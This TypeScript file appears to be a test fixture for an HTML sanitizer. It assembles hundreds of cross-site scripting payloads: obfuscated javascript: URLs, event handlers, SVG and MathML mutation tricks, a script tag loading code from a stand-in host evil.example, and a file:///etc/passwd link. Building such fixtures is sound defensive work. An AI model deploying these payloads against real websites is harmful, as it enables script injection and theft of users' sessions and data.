/** HTML that means harm: what may be sent, pasted or imported as a text. Made of parts, so that each is tried in each place. */

const RUNS = 'window.hostile=(window.hostile||0)+1';

const SCHEMES = [
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `java\tscript:${RUNS}`,
  `java\nscript:${RUNS}`,
  `\u0001javascript:${RUNS}`,
  ` javascript:${RUNS}`,
  `java&#115;cript:${RUNS}`,
  `&#x6A;avascript:${RUNS}`,
  `javascript&colon;${RUNS}`,
  `java&Tab;script:${RUNS}`,
  `java\u200Bscript:${RUNS}`,
  `vbscript:msgbox(1)`,
  `livescript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUNS}'/>`,
  `blob:https://example.org/${RUNS}`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `https:evil.example`,
  `\\\\evil.example\\x`,
  `view-source:javascript:${RUNS}`,
];

const ATTRIBUTES = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'poster',
  'background',
  'data',
  'srcset',
  'ping',
];
const ELEMENTS = (
  'a img iframe embed object form button input video audio source link base area svg math body table td meta ' +
  'frame applet isindex use image track div p'
).split(' ');
const HANDLERS = (
  'onclick onerror onload onmouseover onfocus onanimationstart ontoggle onpointerenter onbeforeinput ' +
  'onscroll onwheel onbegin onstart onpageshow ONCLICK on\u0000click onclick\u000B'
).split(' ');
const HELD = [
  'p',
  'a',
  'img',
  'h2',
  'li',
  'blockquote',
  'div',
  'strong',
  'br',
  'svg',
  'details',
  'video',
  'x-y',
  'style',
];
const QUOTES = ['"', "'", ''];

/** How a word processor, a mail or another page hands over what was copied. */
const PASTED = [
  `<p class=MsoNormal style='mso-margin-top-alt:auto'><o:p>&nbsp;</o:p><b>Uno</b></p><![if !supportLists]>·<![endif]>`,
  `<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--><p>Dos</p>`,
  `<html><head><style>@import url(//evil.example/x.css);p{color:red}</style></head><body onload="${RUNS}"><p>Tres</p></body></html>`,
  `<span style="font-family:expression(${RUNS});background:url(javascript:${RUNS})">Cuatro</span>`,
  `<b style="font-weight:normal;" id="docs-internal-guid-1"><h1>Cinco</h1><table><tr><td>seis</td><td>siete</td></tr></table></b>`,
  `<font color=red size=7><center><marquee>Ocho</marquee></center></font>`,
  `<div><div>Nueve</div><div>Diez<div>Once</div></div></div>`,
];

/** What made cleaners of others fail. */
const KNOWN = [
  `<script>${RUNS}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
  `<<script>${RUNS}//<</script>`,
  `<script/x>${RUNS}</script >`,
  `<img src=x onerror=${RUNS}>`,
  `<img src="x" alt="\`onerror=${RUNS} ">`,
  `<img data-file="1" alt="&quot; onerror=&quot;${RUNS}">`,
  `<img data-file='1"onerror="${RUNS}' alt=x>`,
  `<img data-upload="../../x" alt="x"><img data-file="999999999" alt="x">`,
  `<div data-video="dQw4w9WgXcQ&quot; onload=&quot;${RUNS}">x</div>`,
  `<div data-video="https://evil.example/watch?v=dQw4w9WgXcQ" data-title="<script>${RUNS}</script>">x</div>`,
  `<div data-video="dQw4w9WgXcQ" data-title="<img src=x onerror=${RUNS}>"><img src=x onerror=${RUNS}></div>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg/onload=${RUNS}>`,
  `<svg><a xlink:href="javascript:${RUNS}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${RUNS}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUNS}>`,
  `<math><mi//xlink:href="data:x,<script>${RUNS}</script>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUNS}></annotation-xml></math>`,
  `<math href="javascript:${RUNS}">x</math>`,
  `<math><mi><table><mi><style><!--</style><img src=x onerror="${RUNS}">--></mi></table></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUNS}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=href to="javascript:${RUNS}"><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUNS}'/></svg>#x"></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUNS}>">`,
  `<svg><title><style><img src=x onerror=${RUNS}></style></title></svg>`,
  `<p><svg><desc><p></svg><style><a title="</style><img src=x onerror=${RUNS}>"></a></style>`,
  `<table><td><form><math><mtext><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUNS} src=x>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUNS}>"></textarea>`,
  `<xmp><p title="</xmp><svg/onload=${RUNS}>">`,
  `<title><p title="</title><svg/onload=${RUNS}>">`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  `<object data="javascript:${RUNS}"><param name=x></object>`,
  `<template><script>${RUNS}</script></template>`,
  `<select><option><script>${RUNS}</script></option></select>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUNS}">`,
  `<base href="javascript:${RUNS}//"><a href="x">x</a>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style>*{background:url("javascript:${RUNS}")}</style>`,
  `<details open ontoggle=${RUNS}>x</details>`,
  `<a href="https://church.org" onclick="${RUNS}" style="position:fixed;inset:0" target="_top">x</a>`,
  `<a href="https://church.org&#x22; onmouseover=&#x22;${RUNS}">x</a>`,
  `<a name="location" id="document" href="https://church.org">x</a>`,
  `<p id="__proto__" class="constructor" style="x:y">x</p>`,
  `<!-- --!><img src=x onerror=${RUNS}> -->`,
  `<!--><img src=x onerror=${RUNS}>-->`,
  `<![CDATA[<script>${RUNS}</script>]]>`,
  `<?xml version="1.0"?><?php echo 1 ?><p>x</p>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${RUNS}</script>">]>&x;`,
  `\u003cscript\u003e${RUNS}\u003c/script\u003e`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUNS}&amp;gt;`,
  `\u0000<script>${RUNS}</script>`,
  `<p>\uD800</p>`,
  `<img src=x:x onerror\u000C=${RUNS}>`,
  `<img/src="x"/onerror="${RUNS}"/>`,
  `<a href="`,
  `<p`,
  `<`,
  `</p></div></body>`,
  `${'<div>'.repeat(2_000)}x`,
  `${'<ul><li>'.repeat(500)}x`,
  `${'<b>'.repeat(3_000)}<script>${RUNS}</script>`,
];

/** Each once. */
export const HOSTILE_HTML: readonly string[] = [
  ...new Set([
    ...KNOWN,
    ...PASTED,
    ...ELEMENTS.flatMap((element) =>
      SCHEMES.flatMap((scheme, at) => {
        const attribute = ATTRIBUTES[at % ATTRIBUTES.length] ?? 'href';
        return [
          `<${element} ${attribute}="${scheme}">x</${element}>`,
          ...(element === 'a' ? [`<a href='${scheme}'>x</a>`] : []),
        ];
      }),
    ),
    ...HELD.flatMap((element) =>
      HANDLERS.map((handler, at) => {
        const quote = QUOTES[at % QUOTES.length] ?? '';
        return `<${element} ${handler}=${quote}${RUNS}${quote}>x</${element}>`;
      }),
    ),
    ...SCHEMES.map((scheme) => `<p style="background:url(${scheme})">x</p>`),
  ]),
];
